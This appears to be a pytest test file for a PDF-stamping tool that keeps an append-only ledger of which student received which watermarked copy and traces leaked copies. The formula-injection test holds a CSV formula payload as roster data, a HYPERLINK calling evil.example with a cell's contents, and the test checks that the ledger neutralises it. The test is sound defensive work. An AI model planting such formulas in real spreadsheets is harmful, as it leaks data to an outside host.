"""The ledger is the one record of who received which copy: `build.py stamp` only ever adds to it.

Stamped as an office stamps: a roster that changes between runs, a roster with a
mistake, cells a spreadsheet would run as formulas, two runs at once.  The ledger
is read back with the csv module, and leaked copies are traced with `build.py trace`.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pikepdf
from conftest import BUILD_PY, copy_fixture
from stampkit import GOOD, ROSTER, SECRET, SLUG, grade, run_cli, sha256, with_master

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def roster_text(numbers, email=lambda n: f"s{n}@example.com") -> str:
    return "student_id,name,email\n" + "".join(f"S{n:03d},Name {n},{email(n)}\n" for n in numbers)


def rows(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def state(copies: Path) -> dict[str, tuple[int, bytes]]:
    return {p.name: (p.stat().st_mtime_ns, p.read_bytes()) for p in sorted(copies.iterdir()) if p.is_file()}


def wait_for_copies(copies: Path, count: int, process: subprocess.Popen) -> None:
    deadline = time.monotonic() + 120
    while len(list(copies.glob("*.pdf"))) < count:
        assert process.poll() is None, "the first run ended before the test could pause it"
        assert time.monotonic() < deadline, "the first run made no copies"
        time.sleep(0.02)


def trace_in(out: Path, suspect: Path):
    """`build.py trace SUSPECT --out OUT`: every ledger under that output folder."""
    return run_cli("trace", suspect, "--out", out, cwd=out.parent)


def start_stamp(stamped, out: Path, roster: Path, *more) -> subprocess.Popen:
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"} | {"PRESSROOM_SECRET": SECRET}
    return subprocess.Popen([sys.executable, str(BUILD_PY), "stamp", stamped.content / SLUG, "--roster", roster,
                             "--out", out, "--jobs", "1", *more], cwd=roster.parent, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


# --------------------------------------------------------------------------- history


def test_the_ledger_keeps_every_issued_copy_while_the_roster_changes(stamped, tmp_path):
    out = with_master(stamped, tmp_path / "out")
    copies = out / "copies" / SLUG
    ledger = copies / "ledger.csv"
    roster = tmp_path / "students.csv"
    roster.write_text(roster_text(range(1, 51)), encoding="utf-8")
    assert stamped.stamp(out=out, roster=roster).returncode == 0
    issued = ledger.read_bytes()
    assert [r["student_id"] for r in rows(ledger)] == [f"S{n:03d}" for n in range(1, 51)]
    leaked = {sid: tmp_path / f"leaked-{sid}.pdf" for sid in ("S017", "S005")}
    for sid, path in leaked.items():
        shutil.copy(copies / f"{sid}.pdf", path)

    # S017 leaves the course: the copy he received stays on record, and traceable.
    roster.write_text(roster_text(n for n in range(1, 51) if n != 17), encoding="utf-8")
    second = stamped.stamp(out=out, roster=roster)
    assert second.returncode == 0 and "49 copies (0 stamped, 49 unchanged)" in second.stdout, second.stdout
    assert ledger.read_bytes() == issued
    found = trace_in(out, leaked["S017"])
    assert found.returncode == 0 and grade(found.stdout) == ("verified", "S017"), found.stdout

    # S005 changes his email: a new copy and a new row; the row of the copy he had is kept as it was.
    roster.write_text(roster_text((n for n in range(1, 51) if n != 17),
                                  email=lambda n: "new5@example.com" if n == 5 else f"s{n}@example.com"),
                      encoding="utf-8")
    third = stamped.stamp(out=out, roster=roster)
    assert third.returncode == 0 and "49 copies (1 stamped, 48 unchanged)" in third.stdout, third.stdout
    after = ledger.read_bytes()
    assert after.startswith(issued)
    s005 = [r for r in rows(ledger) if r["student_id"] == "S005"]
    assert [r["email"] for r in s005] == ["s5@example.com", "new5@example.com"]
    assert s005[0]["sha256"] == sha256(leaked["S005"]) != s005[1]["sha256"] == sha256(copies / "S005.pdf")
    old = trace_in(out, leaked["S005"])
    assert old.returncode == 0 and grade(old.stdout) == ("verified", "S005"), old.stdout
    assert "<s5@example.com>" in old.stdout.splitlines()[0]

    # The same roster again: nothing to add.
    assert stamped.stamp(out=out, roster=roster).returncode == 0
    assert ledger.read_bytes() == after


def test_a_roster_with_any_error_stamps_nothing_and_leaves_the_ledger_byte_identical(stamped, tmp_path):
    out = with_master(stamped, tmp_path / "out")
    copies = out / "copies" / SLUG
    assert stamped.stamp(out=out).returncode == 0
    before = state(copies)
    unclosed = tmp_path / "unclosed.csv"
    unclosed.write_text('student_id,name,email\n"S001,Ananya Sharma,ananya.sharma@example.com\n'
                        'S002,क्षितिज त्रिपाठी,kshitij@example.in\n', encoding="utf-8")
    result = run_cli("stamp", stamped.content / SLUG, "--roster", unclosed.name, "--out", out, cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "unclosed.csv:2: error: not a valid CSV row: unexpected end of data",
        "unclosed.csv: 1 error(s); nothing was stamped"]
    assert state(copies) == before
    # Good rows that changed, and one bad row: still nothing is stamped.
    mixed = tmp_path / "mixed.csv"
    mixed.write_text(ROSTER.replace("Ananya Sharma,", "Ananya S. Sharma,") + "S009,Nine,not-an-email,\n",
                     encoding="utf-8")
    result = run_cli("stamp", stamped.content / SLUG, "--roster", mixed.name, "--out", out, cwd=tmp_path)
    assert result.returncode == 1 and "mixed.csv:6: error: malformed email 'not-an-email'" in result.stderr
    assert state(copies) == before


# --------------------------------------------------------------------------- formulas


FORMULAS = {
    "F001": ('=HYPERLINK("http://evil.example/?"&A1,"x")', "f1@example.com"),
    "F002": ("+SUM(1)", "+f2@example.com"),
    "F003": ("-2+3", "=f3@example.com"),
    "F004": ("@cmd", "-f4@example.com"),
    "F005": ("'quoted", "f5@example.com"),
}


def test_formula_cells_are_neutralised_in_the_ledger_and_read_back_as_written(stamped, tmp_path):
    out = with_master(stamped, tmp_path / "out")
    roster = tmp_path / "students.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student_id", "name", "email"])
        writer.writerows([sid, name, email] for sid, (name, email) in FORMULAS.items())
    result = stamped.stamp(out=out, roster=roster)
    assert result.returncode == 0, result.stderr
    ledger = out / "copies" / SLUG / "ledger.csv"
    records = list(csv.reader(io.StringIO(ledger.read_text(encoding="utf-8"))))
    for record in records:
        assert not [cell for cell in record if cell.startswith(FORMULA_START)], record
    by_id = {record[0]: record for record in records[1:]}
    for sid, (name, email) in FORMULAS.items():
        assert by_id[sid][1:3] == ["'" + name, "'" + email if email.startswith(FORMULA_START) else email]
    found = trace_in(out, out / "copies" / SLUG / "F001.pdf")
    assert found.returncode == 0, found.stdout
    assert f"the copy of F001 {FORMULAS['F001'][0]} <f1@example.com>" in found.stdout
    quoted = trace_in(out, out / "copies" / SLUG / "F005.pdf")
    assert "the copy of F005 'quoted <f5@example.com>" in quoted.stdout


def test_a_formula_as_student_id_is_an_error_at_its_line(stamped, tmp_path):
    roster = tmp_path / "students.csv"
    roster.write_text("student_id,name,email\nS001,A,a@example.com\n=1+1,B,b@example.com\n", encoding="utf-8")
    result = run_cli("stamp", stamped.content / SLUG, "--roster", roster.name, "--out", "out", cwd=tmp_path,
                     codes=True)
    assert result.returncode == 1
    assert result.stderr.splitlines()[0] == (
        "students.csv:3: error: student_id '=1+1' is not allowed: it starts with '=' (an id is letters, digits, "
        "'-', '_' and '.', starting with a letter or digit) [roster.row]")
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- two runs at once


def test_a_second_run_on_the_same_ledger_refuses_while_the_first_completes(stamped, tmp_path):
    out = with_master(stamped, tmp_path / "out")
    copies = out / "copies" / SLUG
    roster = tmp_path / "students.csv"
    roster.write_text(roster_text(range(1, 301)), encoding="utf-8")
    first = start_stamp(stamped, out, roster)
    try:
        wait_for_copies(copies, 10, first)
        first.send_signal(signal.SIGSTOP)  # paused half way, its lock held: a run that is still going
        second = stamped.stamp(out=out, roster=roster)
        assert second.returncode == 2, second.stdout + second.stderr
        assert second.stderr.strip() == (f"build.py stamp: error: another stamp run (process {first.pid}) is "
                                         f"writing {copies / 'ledger.csv'}; wait for it to finish, then run again")
    finally:
        first.send_signal(signal.SIGCONT)
    stdout, stderr = first.communicate(timeout=300)
    assert first.returncode == 0, stderr
    records = rows(copies / "ledger.csv")
    assert len(records) == 300 and all(sha256(copies / f"{r['student_id']}.pdf") == r["sha256"] for r in records)


def test_clean_up_never_deletes_another_runs_files(stamped, tmp_path):
    out = with_master(stamped, tmp_path / "out")
    copies = out / "copies" / SLUG
    copies.mkdir(parents=True)
    # What another run may have in flight: a copy written beside its target, not yet renamed.
    in_flight = copies / ".S001.pdf.k2j4h1.tmp"
    in_flight.write_bytes(b"%PDF-1.7 half written")
    roster = tmp_path / "students.csv"
    roster.write_text(roster_text(range(1, 301)), encoding="utf-8")
    first = start_stamp(stamped, out, roster, "--shard", "1/1")
    try:
        wait_for_copies(copies, 10, first)
        first.send_signal(signal.SIGSTOP)
        # A run on another ledger in the same folder starts, and cleans up after killed runs.
        other = tmp_path / "other.csv"
        other.write_text(roster_text(range(401, 405)), encoding="utf-8")
        second = stamped.stamp(out=out, roster=other)
        assert second.returncode == 0, second.stderr
    finally:
        first.send_signal(signal.SIGCONT)
    stdout, stderr = first.communicate(timeout=300)
    assert first.returncode == 0, stderr
    assert in_flight.read_bytes() == b"%PDF-1.7 half written"
    records = rows(copies / "ledger-1-of-1.csv")
    assert len(records) == 300 and all(sha256(copies / f"{r['student_id']}.pdf") == r["sha256"] for r in records)
    for record in records[:3]:
        with pikepdf.open(copies / f"{record['student_id']}.pdf") as pdf:
            assert len(pdf.pages) > 0


# --------------------------------------------------------------------------- where trace looks


def test_trace_searches_every_ledger_under_the_output_folder(stamped, tmp_path):
    out = tmp_path / "out"
    header, *records = list(csv.reader(io.StringIO((stamped.copies / "ledger.csv").read_text(encoding="utf-8"))))
    by_id = {record[0]: record for record in records}
    places = {"S001": out / "copies" / SLUG / "ledger.csv",           # where stamp writes it
              "S002": out / SLUG / "copies" / "ledger.csv",           # where earlier versions wrote it
              "S003": out / "archive" / "2019" / "ledger-2-of-3.csv"}  # a shard's ledger, kept elsewhere
    for sid, path in places.items():
        path.parent.mkdir(parents=True)
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows([header, by_id[sid]])
    for sid in places:
        result = run_cli("trace", stamped.copies / f"{sid}.pdf", "--out", out, cwd=tmp_path)
        assert result.returncode == 0 and grade(result.stdout) == ("verified", sid), result.stdout
        assert f"ledger: {places[sid]}" in result.stdout


# --------------------------------------------------------------------------- what makes the master stale


def test_the_master_is_rebuilt_for_the_files_the_build_uses_and_no_others(tmp_path):
    content = copy_fixture("mini", tmp_path)
    roster = tmp_path / "students.csv"
    roster.write_text(ROSTER, encoding="utf-8")

    def stamp():
        result = run_cli("stamp", content / SLUG, "--roster", roster, "--out", tmp_path / "out", cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        return "built the master" in result.stdout

    assert stamp()
    (content / SLUG / "notes.txt").write_text("the editor's notes, not part of the edition", encoding="utf-8")
    with (content / SLUG / "gs1" / "scan.raw").open("wb") as handle:
        handle.truncate(64 * 1024 * 1024)  # an unrelated large file: neither read nor hashed
    assert not stamp()
    image = content / SLUG / "gs1" / "images" / "bars.png"
    image.write_bytes(image.read_bytes() + b"\0")  # an image an article shows
    assert stamp()
    assert sorted(p.name for p in (tmp_path / "out" / "copies" / SLUG).glob("*.pdf")) == [f"{s}.pdf" for s in GOOD]


def test_copies_dir_puts_the_copies_and_their_ledger_where_asked(stamped, tmp_path):
    out = with_master(stamped, tmp_path / "out")
    vault = tmp_path / "vault"
    result = stamped.stamp("--copies-dir", vault, out=out)
    assert result.returncode == 0, result.stderr
    assert sorted(p.stem for p in vault.glob("*.pdf")) == sorted(GOOD)
    assert [r["student_id"] for r in rows(vault / "ledger.csv")] == list(GOOD)
    assert not (out / "copies").exists()
    found = run_cli("trace", vault / "S007.pdf", "--ledger", vault, cwd=tmp_path)
    assert found.returncode == 0 and grade(found.stdout) == ("verified", "S007"), found.stdout
